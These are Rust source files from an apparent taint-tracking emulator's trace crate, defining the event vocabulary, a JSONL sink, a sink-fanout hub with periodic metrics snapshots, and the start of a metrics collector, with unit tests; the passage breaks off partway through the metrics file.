//! The JSONL trace sink: one event per line, each with a sequence number.

use crate::event::Event;

/// Buffers the event stream as JSON Lines.
///
/// Each event becomes `{"seq":N,...event fields...}` followed by `\n`. The
/// buffer is in-memory; callers (the CLI's `--trace-out`, tests) decide
/// where the bytes end up.
#[derive(Debug, Default)]
pub struct JsonlSink {
    buf: Vec<u8>,
    seq: u64,
}

impl JsonlSink {
    /// An empty sink.
    #[must_use]
    pub fn new() -> JsonlSink {
        JsonlSink::default()
    }

    /// Appends one event line.
    pub fn record(&mut self, event: &Event) {
        self.record_fields(&event.json_fields());
    }

    /// Appends one line from pre-rendered JSON fields (no enclosing braces;
    /// the sink supplies them plus the sequence number). Interleaves
    /// non-`Event` records — the periodic `metrics_snapshot` rows — into the
    /// stream under the same dense numbering.
    pub fn record_fields(&mut self, fields: &str) {
        self.buf.extend_from_slice(b"{\"seq\":");
        self.buf.extend_from_slice(self.seq.to_string().as_bytes());
        self.buf.push(b',');
        self.buf.extend_from_slice(fields.as_bytes());
        self.buf.extend_from_slice(b"}\n");
        self.seq += 1;
    }

    /// Number of events recorded so far.
    #[must_use]
    pub fn len(&self) -> u64 {
        self.seq
    }

    /// Whether no events have been recorded.
    #[must_use]
    pub fn is_empty(&self) -> bool {
        self.seq == 0
    }

    /// The accumulated JSONL bytes.
    #[must_use]
    pub fn into_bytes(self) -> Vec<u8> {
        self.buf
    }

    /// A borrowed view of the accumulated bytes.
    #[must_use]
    pub fn bytes(&self) -> &[u8] {
        &self.buf
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lines_carry_monotonic_sequence_numbers() {
        let mut sink = JsonlSink::new();
        for i in 0..3u32 {
            sink.record(&Event::CacheAccess {
                level: 1,
                addr: i,
                hit: false,
            });
        }
        let text = String::from_utf8(sink.into_bytes()).unwrap();
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines.len(), 3);
        assert!(lines[0].starts_with("{\"seq\":0,\"event\":\"cache_access\""));
        assert!(lines[2].starts_with("{\"seq\":2,"));
        assert!(lines.iter().all(|l| l.ends_with('}')));
    }
}
