//! The structured event vocabulary emitted by the emulator's hooks.

use crate::json::{escape, taint_str};
use ptaint_isa::{Instr, Reg};
use std::fmt;

/// A location taint can live in, as seen by the propagation hooks.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Loc {
    /// A general-purpose register.
    Reg(Reg),
    /// A memory word starting at this byte address.
    Mem(u32),
    /// The multiply/divide result pair (`hi`/`lo`).
    HiLo,
}

impl fmt::Display for Loc {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Loc::Reg(r) => write!(f, "{r}"),
            Loc::Mem(a) => write!(f, "mem[0x{a:x}]"),
            Loc::HiLo => f.write_str("hilo"),
        }
    }
}

/// One taint movement: an instruction wrote `taint_bits` of taint into
/// `dst`, computed from up to two source locations under a named ALU rule.
///
/// Transfers are only emitted when taint is actually in motion (some source
/// or the destination is tainted), so the stream stays sparse relative to
/// the retire stream.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Transfer {
    /// Address of the propagating instruction.
    pub pc: u32,
    /// The propagating instruction.
    pub instr: Instr,
    /// Name of the propagation rule that produced the result taint
    /// (e.g. `"generic"`, `"and-mask"`, `"xor-idiom"`, `"load"`, `"store"`).
    pub rule: &'static str,
    /// Where the result (and its taint) went.
    pub dst: Loc,
    /// The source locations, in operand order.
    pub srcs: [Option<Loc>; 2],
    /// Per-byte taint of the value written to `dst` (bit 0 = LSB).
    pub taint_bits: u8,
}

impl fmt::Display for Transfer {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{:x}: {}  {} <-", self.pc, self.instr, self.dst)?;
        let mut any = false;
        for src in self.srcs.iter().flatten() {
            write!(f, "{}{}", if any { "," } else { " " }, src)?;
            any = true;
        }
        if !any {
            f.write_str(" (const)")?;
        }
        write!(f, " [{}] via {}", taint_str(self.taint_bits), self.rule)
    }
}

/// A structured observation from the emulator.
///
/// Events are borrowed by [`crate::Observer::on_event`]; everything they
/// carry is either `Copy` or a short label built at the source site.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Event {
    /// An instruction retired.
    Retire {
        /// Address of the retired instruction.
        pc: u32,
        /// The retired instruction.
        instr: Instr,
        /// Whether any of its operands carried taint.
        tainted: bool,
    },
    /// Fresh taint entered the guest from the outside world.
    TaintSource {
        /// Source category: `"syscall"`, `"argv"`, or `"env"`.
        kind: &'static str,
        /// Human-readable origin, e.g. `recv#2 fd=4` or `argv[1]`.
        label: String,
        /// First tainted guest address.
        base: u32,
        /// Number of tainted bytes written.
        len: u32,
    },
    /// Taint moved between locations (see [`Transfer`]).
    TaintPropagate(Transfer),
    /// A tainted value reached a pointer-check site (load/store address or
    /// indirect-jump target). Only emitted when the checked word carries
    /// taint; `flagged` says whether the active policy raised an alert.
    PointerCheck {
        /// Address of the checking instruction.
        pc: u32,
        /// The instruction performing the dereference or jump.
        instr: Instr,
        /// Register holding the checked pointer.
        reg: Reg,
        /// The pointer value.
        value: u32,
        /// Per-byte taint of the pointer (bit 0 = LSB).
        taint_bits: u8,
        /// Whether the detection policy turned this into an alert.
        flagged: bool,
    },
    /// A security alert fired.
    Alert {
        /// Address of the faulting instruction.
        pc: u32,
        /// The faulting instruction.
        instr: Instr,
        /// Alert kind name (e.g. `"tainted data pointer"`).
        kind: &'static str,
        /// Active detection policy name (`"ptaint"`, `"control-only"`).
        policy: &'static str,
        /// Register holding the tainted pointer.
        reg: Reg,
        /// The tainted pointer value.
        value: u32,
        /// Per-byte taint of the pointer (bit 0 = LSB).
        taint_bits: u8,
    },
    /// The kernel model handled a syscall.
    Syscall {
        /// Address of the `syscall` instruction.
        pc: u32,
        /// Raw syscall number from `$v0`.
        number: u32,
        /// Mnemonic name, or `"unknown"`.
        name: &'static str,
        /// Result value written back to `$v0`.
        result: i32,
    },
    /// A cache level was probed.
    CacheAccess {
        /// Cache level (1 or 2).
        level: u8,
        /// The probed byte address.
        addr: u32,
        /// Whether the probe hit.
        hit: bool,
    },
    /// The predecoded execution engine touched its decode cache.
    DecodeCache {
        /// The text page involved (byte address divided by the page size).
        page: u32,
        /// `"hit"`, `"miss"` (block predecoded), or `"invalidate"`
        /// (store into a cached text page dropped it).
        kind: &'static str,
    },
    /// The static taint analyzer finished a pass over the guest image
    /// (emitted once at boot when check elision is enabled).
    StaticAnalysis {
        /// Functions partitioned from the recovered control-flow graph.
        functions: u64,
        /// Basic blocks discovered.
        blocks: u64,
        /// Check sites proven clean (eligible for runtime elision).
        proven: u64,
        /// Check sites flagged as statically tainted in the lint report.
        flagged: u64,
        /// Whether the result was served from a persistent proof cache
        /// (`true`) or computed by a cold fixpoint run (`false`).
        cached: bool,
    },
    /// The cached engine skipped a pointer-taintedness check at a site the
    /// static analyzer proved clean.
    CheckElided {
        /// Address of the instruction whose check was skipped.
        pc: u32,
    },
    /// The fault-injection harness applied a fault to this run.
    FaultInjected {
        /// Fault kind name (e.g. `"taint_clear"`, `"short_read"`).
        kind: &'static str,
        /// Human-readable description of what was corrupted.
        detail: String,
    },
    /// A copy-on-write machine snapshot was captured — the baseline that
    /// later runs fork from.
    Snapshot {
        /// Resident guest memory pages captured in the snapshot.
        pages: u64,
    },
    /// A machine forked copy-on-write from a snapshot.
    Fork {
        /// Pages shared with the snapshot immediately after the fork.
        pages_shared: u64,
        /// COW write faults the forking timeline had absorbed when it
        /// forked (private page copies it materialized).
        cow_faults: u64,
    },
    /// The periodic decode-cache integrity check tripped: the CPU dropped
    /// every static proof, disabled check elision, and continues in
    /// full-check (degraded) mode for the rest of the run.
    DegradedMode {
        /// What the integrity check found (replica mismatch, checksum
        /// mismatch, …).
        reason: String,
    },
    /// A replayed run issued a syscall its journal did not record, so
    /// replay stopped with a structured divergence.
    ReplayDivergence {
        /// 0-based journal index where replay stopped.
        index: u64,
        /// The recorded call at that index (or `<end of journal>`).
        expected: String,
        /// The call the guest actually issued.
        actual: String,
    },
}

impl Event {
    /// Machine-readable discriminant used in the JSONL `"event"` field.
    #[must_use]
    pub fn name(&self) -> &'static str {
        match self {
            Event::Retire { .. } => "retire",
            Event::TaintSource { .. } => "taint_source",
            Event::TaintPropagate(_) => "taint_propagate",
            Event::PointerCheck { .. } => "pointer_check",
            Event::Alert { .. } => "alert",
            Event::Syscall { .. } => "syscall",
            Event::CacheAccess { .. } => "cache_access",
            Event::DecodeCache { .. } => "decode_cache",
            Event::StaticAnalysis { .. } => "static_analysis",
            Event::CheckElided { .. } => "check_elided",
            Event::FaultInjected { .. } => "fault_injected",
            Event::Snapshot { .. } => "snapshot",
            Event::Fork { .. } => "fork",
            Event::DegradedMode { .. } => "degraded_mode",
            Event::ReplayDivergence { .. } => "replay_divergence",
        }
    }

    /// The event's JSON fields, without the enclosing braces, so sinks can
    /// prepend bookkeeping of their own (e.g. a sequence number).
    #[must_use]
    pub fn json_fields(&self) -> String {
        match self {
            Event::Retire { pc, instr, tainted } => format!(
                "\"event\":\"retire\",\"pc\":\"0x{pc:x}\",\"instr\":{},\"tainted\":{tainted}",
                escape(&instr.to_string()),
            ),
            Event::TaintSource {
                kind,
                label,
                base,
                len,
            } => format!(
                "\"event\":\"taint_source\",\"kind\":{},\"label\":{},\"base\":\"0x{base:x}\",\"len\":{len}",
                escape(kind),
                escape(label),
            ),
            Event::TaintPropagate(t) => {
                let srcs: Vec<String> = t
                    .srcs
                    .iter()
                    .flatten()
                    .map(|s| escape(&s.to_string()))
                    .collect();
                format!(
                    "\"event\":\"taint_propagate\",\"pc\":\"0x{:x}\",\"instr\":{},\"rule\":{},\"dst\":{},\"srcs\":[{}],\"taint\":{}",
                    t.pc,
                    escape(&t.instr.to_string()),
                    escape(t.rule),
                    escape(&t.dst.to_string()),
                    srcs.join(","),
                    escape(&taint_str(t.taint_bits)),
                )
            }
            Event::PointerCheck {
                pc,
                instr,
                reg,
                value,
                taint_bits,
                flagged,
            } => format!(
                "\"event\":\"pointer_check\",\"pc\":\"0x{pc:x}\",\"instr\":{},\"reg\":{},\"value\":\"0x{value:x}\",\"taint\":{},\"flagged\":{flagged}",
                escape(&instr.to_string()),
                escape(&reg.to_string()),
                escape(&taint_str(*taint_bits)),
            ),
            Event::Alert {
                pc,
                instr,
                kind,
                policy,
                reg,
                value,
                taint_bits,
            } => format!(
                "\"event\":\"alert\",\"pc\":\"0x{pc:x}\",\"instr\":{},\"kind\":{},\"policy\":{},\"reg\":{},\"value\":\"0x{value:x}\",\"taint\":{}",
                escape(&instr.to_string()),
                escape(kind),
                escape(policy),
                escape(&reg.to_string()),
                escape(&taint_str(*taint_bits)),
            ),
            Event::Syscall {
                pc,
                number,
                name,
                result,
            } => format!(
                "\"event\":\"syscall\",\"pc\":\"0x{pc:x}\",\"number\":{number},\"name\":{},\"result\":{result}",
                escape(name),
            ),
            Event::CacheAccess { level, addr, hit } => format!(
                "\"event\":\"cache_access\",\"level\":{level},\"addr\":\"0x{addr:x}\",\"hit\":{hit}",
            ),
            Event::DecodeCache { page, kind } => format!(
                "\"event\":\"decode_cache\",\"page\":{page},\"kind\":{}",
                escape(kind),
            ),
            Event::StaticAnalysis {
                functions,
                blocks,
                proven,
                flagged,
                cached,
            } => format!(
                "\"event\":\"static_analysis\",\"functions\":{functions},\"blocks\":{blocks},\"proven\":{proven},\"flagged\":{flagged},\"cached\":{cached}",
            ),
            Event::CheckElided { pc } => {
                format!("\"event\":\"check_elided\",\"pc\":\"0x{pc:x}\"")
            }
            Event::FaultInjected { kind, detail } => format!(
                "\"event\":\"fault_injected\",\"kind\":{},\"detail\":{}",
                escape(kind),
                escape(detail),
            ),
            Event::Snapshot { pages } => {
                format!("\"event\":\"snapshot\",\"pages\":{pages}")
            }
            Event::Fork {
                pages_shared,
                cow_faults,
            } => format!(
                "\"event\":\"fork\",\"pages_shared\":{pages_shared},\"cow_faults\":{cow_faults}"
            ),
            Event::DegradedMode { reason } => format!(
                "\"event\":\"degraded_mode\",\"reason\":{}",
                escape(reason),
            ),
            Event::ReplayDivergence {
                index,
                expected,
                actual,
            } => format!(
                "\"event\":\"replay_divergence\",\"index\":{index},\"expected\":{},\"actual\":{}",
                escape(expected),
                escape(actual),
            ),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn loc_display_matches_the_forensic_style() {
        assert_eq!(Loc::Reg(Reg::new(3)).to_string(), "$3");
        assert_eq!(Loc::Mem(0x1002_bc20).to_string(), "mem[0x1002bc20]");
        assert_eq!(Loc::HiLo.to_string(), "hilo");
    }

    #[test]
    fn event_json_fields_are_stable() {
        let e = Event::Syscall {
            pc: 0x400010,
            number: 46,
            name: "recv",
            result: 128,
        };
        assert_eq!(
            e.json_fields(),
            "\"event\":\"syscall\",\"pc\":\"0x400010\",\"number\":46,\"name\":\"recv\",\"result\":128"
        );
    }

    #[test]
    fn taint_source_labels_are_escaped() {
        let e = Event::TaintSource {
            kind: "argv",
            label: "argv[\"x\"]".to_string(),
            base: 0x7fff_0000,
            len: 8,
        };
        assert!(e.json_fields().contains("argv[\\\"x\\\"]"));
    }
}
