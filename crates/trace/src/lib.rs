#![warn(missing_docs)]

//! # ptaint-trace — structured tracing and taint provenance
//!
//! The DSN 2005 paper's key diagnostic artifact is the alert transcript
//! (Table 2: `44d7b0: sw $21,0($3)  $3=0x1002bc20`), which says *that* a
//! tainted pointer was dereferenced. This crate adds the *where from* and
//! *how*: a structured [`Event`] stream emitted by the emulator, and sinks
//! that turn it into a JSONL trace ([`JsonlSink`]), run metrics
//! ([`MetricsSnapshot`]), and a forensic provenance chain
//! ([`ForensicChain`]) from the tainting input byte to the dereferenced
//! pointer.
//!
//! ## Zero cost when disabled
//!
//! The emulator holds an `Option<SharedObserver>`; when it is `None` (the
//! default) every hook is a single branch on a `None` discriminant and no
//! event is ever constructed. Labels and other allocations happen only
//! behind an is-some check at the source site.
//!
//! ## Wiring
//!
//! ```
//! use ptaint_trace::{Event, Observer, TraceConfig, TraceHub};
//!
//! let hub = TraceHub::shared(&TraceConfig::all());
//! // The emulator would hold a clone of `hub` and call on_event at hooks:
//! hub.borrow_mut().on_event(&Event::TaintSource {
//!     kind: "syscall",
//!     label: "recv#1 fd=4".to_string(),
//!     base: 0x1000_0000,
//!     len: 512,
//! });
//! let report = std::rc::Rc::try_unwrap(hub).unwrap().into_inner().into_report();
//! assert_eq!(report.metrics.unwrap().taint_sources, 1);
//! ```

use std::cell::RefCell;
use std::rc::Rc;

mod event;
mod hub;
pub mod json;
mod jsonl;
mod metrics;
mod provenance;

pub use event::{Event, Loc, Transfer};
pub use hub::{TraceConfig, TraceHub, TraceReport};
pub use json::ToJson;
pub use jsonl::JsonlSink;
pub use metrics::{
    DecodeCacheCounters, LevelCounters, MetricsCollector, MetricsSnapshot, DENSITY_WINDOW,
};
pub use provenance::{ForensicChain, ProvenanceTracker, SourceInfo, DEFAULT_RING_DEPTH};

/// Receives the structured event stream from the emulator.
///
/// Implementations must tolerate any event ordering the emulator produces;
/// in particular `Alert` may or may not be followed by further events
/// depending on the active detection policy.
pub trait Observer {
    /// Called once per emitted event.
    fn on_event(&mut self, event: &Event);
}

/// The shape the emulator holds observers in. The emulator is
/// single-threaded, so `Rc<RefCell<…>>` is the right amount of machinery:
/// the CPU, memory system, and OS model each hold a clone.
pub type SharedObserver = Rc<RefCell<dyn Observer>>;
