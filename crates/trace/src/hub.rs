//! The composite observer wiring sinks together, plus its configuration
//! and the report extracted after a run.

use crate::event::Event;
use crate::jsonl::JsonlSink;
use crate::metrics::{MetricsCollector, MetricsSnapshot};
use crate::provenance::{ForensicChain, ProvenanceTracker, DEFAULT_RING_DEPTH};
use crate::Observer;
use std::cell::RefCell;
use std::rc::Rc;

/// Which sinks a [`TraceHub`] should run.
#[derive(Debug, Clone)]
pub struct TraceConfig {
    /// Buffer the full event stream as JSON Lines.
    pub jsonl: bool,
    /// Aggregate a [`MetricsSnapshot`].
    pub metrics: bool,
    /// Track taint provenance and build forensic chains on alerts.
    pub provenance: bool,
    /// Capacity of the provenance propagation ring.
    pub ring_depth: usize,
}

impl Default for TraceConfig {
    /// Everything off; enable the sinks you need.
    fn default() -> TraceConfig {
        TraceConfig {
            jsonl: false,
            metrics: false,
            provenance: false,
            ring_depth: DEFAULT_RING_DEPTH,
        }
    }
}

impl TraceConfig {
    /// Enables every sink — what `--trace-out --provenance --metrics-out`
    /// together ask for.
    #[must_use]
    pub fn all() -> TraceConfig {
        TraceConfig {
            jsonl: true,
            metrics: true,
            provenance: true,
            ring_depth: DEFAULT_RING_DEPTH,
        }
    }

    /// Whether any sink is enabled (if not, skip attaching an observer).
    #[must_use]
    pub fn any(&self) -> bool {
        self.jsonl || self.metrics || self.provenance
    }
}

/// What a [`TraceHub`] collected over one run.
#[derive(Debug, Default)]
pub struct TraceReport {
    /// The JSONL event stream, when enabled.
    pub jsonl: Option<Vec<u8>>,
    /// Aggregated metrics, when enabled.
    pub metrics: Option<MetricsSnapshot>,
    /// Forensic chain of the last alert, when provenance was enabled and an
    /// alert fired.
    pub forensic: Option<ForensicChain>,
}

/// Fans events out to the enabled sinks.
#[derive(Debug, Default)]
pub struct TraceHub {
    jsonl: Option<JsonlSink>,
    metrics: Option<MetricsCollector>,
    provenance: Option<ProvenanceTracker>,
}

impl TraceHub {
    /// A hub running the sinks `cfg` enables.
    #[must_use]
    pub fn new(cfg: &TraceConfig) -> TraceHub {
        TraceHub {
            jsonl: cfg.jsonl.then(JsonlSink::new),
            metrics: cfg.metrics.then(MetricsCollector::new),
            provenance: cfg
                .provenance
                .then(|| ProvenanceTracker::new(cfg.ring_depth)),
        }
    }

    /// A hub wrapped for sharing with the emulator's observer slots.
    #[must_use]
    pub fn shared(cfg: &TraceConfig) -> Rc<RefCell<TraceHub>> {
        Rc::new(RefCell::new(TraceHub::new(cfg)))
    }

    /// Read access to the provenance tracker, when enabled.
    #[must_use]
    pub fn provenance(&self) -> Option<&ProvenanceTracker> {
        self.provenance.as_ref()
    }

    /// Consumes the hub into its collected artifacts.
    #[must_use]
    pub fn into_report(self) -> TraceReport {
        TraceReport {
            jsonl: self.jsonl.map(JsonlSink::into_bytes),
            metrics: self.metrics.map(MetricsCollector::snapshot),
            forensic: self.provenance.and_then(ProvenanceTracker::into_last_chain),
        }
    }
}

impl Observer for TraceHub {
    fn on_event(&mut self, event: &Event) {
        if let Some(jsonl) = &mut self.jsonl {
            jsonl.record(event);
        }
        if let Some(metrics) = &mut self.metrics {
            metrics.record(event);
        }
        if let Some(provenance) = &mut self.provenance {
            provenance.record(event);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn disabled_hub_collects_nothing() {
        let mut hub = TraceHub::new(&TraceConfig::default());
        hub.on_event(&Event::CacheAccess {
            level: 1,
            addr: 0,
            hit: true,
        });
        let report = hub.into_report();
        assert!(report.jsonl.is_none());
        assert!(report.metrics.is_none());
        assert!(report.forensic.is_none());
    }

    #[test]
    fn all_sinks_receive_the_event() {
        let mut hub = TraceHub::new(&TraceConfig::all());
        hub.on_event(&Event::TaintSource {
            kind: "argv",
            label: "argv[1]".to_string(),
            base: 0x7fff_0000,
            len: 8,
        });
        let report = hub.into_report();
        let jsonl = String::from_utf8(report.jsonl.unwrap()).unwrap();
        assert!(jsonl.contains("\"event\":\"taint_source\""));
        assert_eq!(report.metrics.unwrap().taint_sources, 1);
    }
}
