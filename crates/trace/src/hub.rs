//! The composite observer wiring sinks together, plus its configuration
//! and the report extracted after a run.

use crate::event::Event;
use crate::json::ToJson;
use crate::jsonl::JsonlSink;
use crate::metrics::{MetricsCollector, MetricsSnapshot};
use crate::provenance::{ForensicChain, ProvenanceTracker, DEFAULT_RING_DEPTH};
use crate::Observer;
use std::cell::RefCell;
use std::rc::Rc;

/// Which sinks a [`TraceHub`] should run.
#[derive(Debug, Clone)]
pub struct TraceConfig {
    /// Buffer the full event stream as JSON Lines.
    pub jsonl: bool,
    /// Aggregate a [`MetricsSnapshot`].
    pub metrics: bool,
    /// Track taint provenance and build forensic chains on alerts.
    pub provenance: bool,
    /// Capacity of the provenance propagation ring.
    pub ring_depth: usize,
    /// Interleave a `metrics_snapshot` record into the JSONL stream every N
    /// retired instructions (time-series metrics instead of one final
    /// snapshot). Requires the JSONL sink; implies the metrics sink.
    pub metrics_interval: Option<u64>,
}

impl Default for TraceConfig {
    /// Everything off; enable the sinks you need.
    fn default() -> TraceConfig {
        TraceConfig {
            jsonl: false,
            metrics: false,
            provenance: false,
            ring_depth: DEFAULT_RING_DEPTH,
            metrics_interval: None,
        }
    }
}

impl TraceConfig {
    /// Enables every sink — what `--trace-out --provenance --metrics-out`
    /// together ask for.
    #[must_use]
    pub fn all() -> TraceConfig {
        TraceConfig {
            jsonl: true,
            metrics: true,
            provenance: true,
            ring_depth: DEFAULT_RING_DEPTH,
            metrics_interval: None,
        }
    }

    /// Whether any sink is enabled (if not, skip attaching an observer).
    #[must_use]
    pub fn any(&self) -> bool {
        self.jsonl || self.metrics || self.provenance || self.metrics_interval.is_some()
    }
}

/// What a [`TraceHub`] collected over one run.
#[derive(Debug, Default)]
pub struct TraceReport {
    /// The JSONL event stream, when enabled.
    pub jsonl: Option<Vec<u8>>,
    /// Aggregated metrics, when enabled.
    pub metrics: Option<MetricsSnapshot>,
    /// Forensic chain of the last alert, when provenance was enabled and an
    /// alert fired.
    pub forensic: Option<ForensicChain>,
}

/// Fans events out to the enabled sinks.
#[derive(Debug, Default)]
pub struct TraceHub {
    jsonl: Option<JsonlSink>,
    metrics: Option<MetricsCollector>,
    provenance: Option<ProvenanceTracker>,
    /// `metrics_snapshot` cadence in retires; `0` = disabled.
    interval: u64,
    /// Retires seen since the last periodic snapshot.
    since_snapshot: u64,
    /// Total retires seen (stamped into each snapshot record).
    retired: u64,
}

impl TraceHub {
    /// A hub running the sinks `cfg` enables. A `metrics_interval` forces
    /// the JSONL and metrics sinks on: the periodic records need a stream
    /// to land in and a collector to snapshot.
    #[must_use]
    pub fn new(cfg: &TraceConfig) -> TraceHub {
        let interval = cfg.metrics_interval.unwrap_or(0);
        TraceHub {
            jsonl: (cfg.jsonl || interval > 0).then(JsonlSink::new),
            metrics: (cfg.metrics || interval > 0).then(MetricsCollector::new),
            provenance: cfg
                .provenance
                .then(|| ProvenanceTracker::new(cfg.ring_depth)),
            interval,
            since_snapshot: 0,
            retired: 0,
        }
    }

    /// A hub wrapped for sharing with the emulator's observer slots.
    #[must_use]
    pub fn shared(cfg: &TraceConfig) -> Rc<RefCell<TraceHub>> {
        Rc::new(RefCell::new(TraceHub::new(cfg)))
    }

    /// Read access to the provenance tracker, when enabled.
    #[must_use]
    pub fn provenance(&self) -> Option<&ProvenanceTracker> {
        self.provenance.as_ref()
    }

    /// Consumes the hub into its collected artifacts.
    #[must_use]
    pub fn into_report(self) -> TraceReport {
        TraceReport {
            jsonl: self.jsonl.map(JsonlSink::into_bytes),
            metrics: self.metrics.map(MetricsCollector::snapshot),
            forensic: self.provenance.and_then(ProvenanceTracker::into_last_chain),
        }
    }
}

impl Observer for TraceHub {
    fn on_event(&mut self, event: &Event) {
        if let Some(jsonl) = &mut self.jsonl {
            jsonl.record(event);
        }
        if let Some(metrics) = &mut self.metrics {
            metrics.record(event);
        }
        if let Some(provenance) = &mut self.provenance {
            provenance.record(event);
        }
        // Periodic time-series snapshot, after the retire has been folded so
        // the record covers everything up to and including it.
        if self.interval > 0 && matches!(event, Event::Retire { .. }) {
            self.retired += 1;
            self.since_snapshot += 1;
            if self.since_snapshot == self.interval {
                self.since_snapshot = 0;
                let snap = self
                    .metrics
                    .as_ref()
                    .expect("interval forces the metrics sink")
                    .peek();
                let fields = format!(
                    "\"event\":\"metrics_snapshot\",\"retired\":{},\"metrics\":{}",
                    self.retired,
                    snap.to_json()
                );
                self.jsonl
                    .as_mut()
                    .expect("interval forces the jsonl sink")
                    .record_fields(&fields);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn disabled_hub_collects_nothing() {
        let mut hub = TraceHub::new(&TraceConfig::default());
        hub.on_event(&Event::CacheAccess {
            level: 1,
            addr: 0,
            hit: true,
        });
        let report = hub.into_report();
        assert!(report.jsonl.is_none());
        assert!(report.metrics.is_none());
        assert!(report.forensic.is_none());
    }

    #[test]
    fn metrics_interval_interleaves_snapshot_records() {
        let cfg = TraceConfig {
            metrics_interval: Some(2),
            ..TraceConfig::default()
        };
        assert!(cfg.any(), "an interval alone must attach the observer");
        let mut hub = TraceHub::new(&cfg);
        for i in 0..5u32 {
            hub.on_event(&Event::CheckElided { pc: i * 4 });
            hub.on_event(&Event::Retire {
                pc: i * 4,
                instr: ptaint_isa::Instr::Break { code: 0 },
                tainted: i % 2 == 0,
            });
        }
        let report = hub.into_report();
        let jsonl = String::from_utf8(report.jsonl.unwrap()).unwrap();
        let snapshots: Vec<&str> = jsonl
            .lines()
            .filter(|l| l.contains("\"event\":\"metrics_snapshot\""))
            .collect();
        // 5 retires at interval 2 => snapshots after retire 2 and 4.
        assert_eq!(snapshots.len(), 2);
        assert!(
            snapshots[0].contains("\"retired\":2,\"metrics\":{\"retired\":2,"),
            "{}",
            snapshots[0]
        );
        assert!(snapshots[1].contains("\"retired\":4"), "{}", snapshots[1]);
        // The snapshot reflects the stream so far (2 elisions by retire 2).
        assert!(
            snapshots[0].contains("\"elided_checks\":2"),
            "{}",
            snapshots[0]
        );
        // Sequence numbers stay dense across interleaved records: 10 events
        // + 2 snapshots = 12 lines numbered 0..=11.
        assert_eq!(jsonl.lines().count(), 12);
        assert!(jsonl.lines().last().unwrap().starts_with("{\"seq\":11,"));
        // The final consuming snapshot still works and saw every retire.
        assert_eq!(report.metrics.unwrap().retired, 5);
    }

    #[test]
    fn all_sinks_receive_the_event() {
        let mut hub = TraceHub::new(&TraceConfig::all());
        hub.on_event(&Event::TaintSource {
            kind: "argv",
            label: "argv[1]".to_string(),
            base: 0x7fff_0000,
            len: 8,
        });
        let report = hub.into_report();
        let jsonl = String::from_utf8(report.jsonl.unwrap()).unwrap();
        assert!(jsonl.contains("\"event\":\"taint_source\""));
        assert_eq!(report.metrics.unwrap().taint_sources, 1);
    }
}
