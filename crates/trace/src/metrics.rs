//! In-memory metrics aggregated from the event stream.

use crate::event::Event;
use crate::json::{escape, ToJson};
use std::collections::BTreeMap;

/// Retire-count width of one taint-density window.
pub const DENSITY_WINDOW: u64 = 1024;

/// Hit/miss counters for one cache level, as observed through events.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct LevelCounters {
    /// Probes that hit.
    pub hits: u64,
    /// Probes that missed.
    pub misses: u64,
}

impl LevelCounters {
    /// Fraction of probes that hit, or 0 when the level was never probed.
    #[must_use]
    pub fn hit_rate(&self) -> f64 {
        let total = self.hits + self.misses;
        if total == 0 {
            0.0
        } else {
            self.hits as f64 / total as f64
        }
    }
}

/// Decode-cache counters of the predecoded execution engine, as observed
/// through [`Event::DecodeCache`].
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct DecodeCacheCounters {
    /// Steps dispatched straight from the decode cache.
    pub hits: u64,
    /// Steps that predecoded a block (first execution, or re-decode after
    /// an invalidation).
    pub misses: u64,
    /// Cached text pages dropped because something stored into them.
    pub invalidations: u64,
}

/// Aggregated view of one run, produced by [`MetricsCollector::snapshot`].
#[derive(Debug, Clone, Default, PartialEq)]
pub struct MetricsSnapshot {
    /// Instructions retired.
    pub retired: u64,
    /// Retired instructions that touched at least one tainted operand.
    pub tainted_retired: u64,
    /// Labeled taint sources observed.
    pub taint_sources: u64,
    /// Total bytes tainted by those sources.
    pub source_bytes: u64,
    /// Taint propagation transfers observed.
    pub propagations: u64,
    /// Transfers broken down by propagation-rule name.
    pub propagations_by_rule: BTreeMap<&'static str, u64>,
    /// Pointer checks that saw a tainted pointer.
    pub pointer_checks: u64,
    /// Alerts raised.
    pub alerts: u64,
    /// Alerts broken down by kind.
    pub alerts_by_kind: BTreeMap<&'static str, u64>,
    /// Syscalls handled, by mnemonic.
    pub syscalls: BTreeMap<&'static str, u64>,
    /// L1/L2 probe counters (index 0 = L1).
    pub cache: [LevelCounters; 2],
    /// Decode-cache activity of the predecoded execution engine.
    pub decode_cache: DecodeCacheCounters,
    /// Pointer-taintedness checks skipped at statically proven-clean sites.
    pub elided_checks: u64,
    /// Check sites the static analyzer proved clean (from the boot-time
    /// [`Event::StaticAnalysis`] summary; zero when analysis never ran).
    pub statically_proven: u64,
    /// Faults the injection harness applied (zero outside campaigns).
    pub faults_injected: u64,
    /// Applied faults broken down by fault-kind name.
    pub faults_by_kind: BTreeMap<&'static str, u64>,
    /// Pages shared copy-on-write at the most recent observed fork (zero
    /// when the run never forked).
    pub pages_shared: u64,
    /// COW write faults accumulated across observed fork events (private
    /// page copies materialized by forking timelines).
    pub cow_faults: u64,
    /// Tainted-retire fraction per [`DENSITY_WINDOW`]-instruction window,
    /// in execution order — the taint-density-over-time histogram.
    pub taint_density: Vec<f64>,
}

impl ToJson for MetricsSnapshot {
    fn to_json(&self) -> String {
        let map = |m: &BTreeMap<&'static str, u64>| -> String {
            let fields: Vec<String> = m
                .iter()
                .map(|(k, v)| format!("{}:{v}", escape(k)))
                .collect();
            format!("{{{}}}", fields.join(","))
        };
        let density: Vec<String> = self
            .taint_density
            .iter()
            .map(|d| format!("{d:.6}"))
            .collect();
        format!(
            concat!(
                "{{\"retired\":{},\"tainted_retired\":{},\"taint_sources\":{},",
                "\"source_bytes\":{},\"propagations\":{},\"propagations_by_rule\":{},",
                "\"pointer_checks\":{},\"alerts\":{},\"alerts_by_kind\":{},",
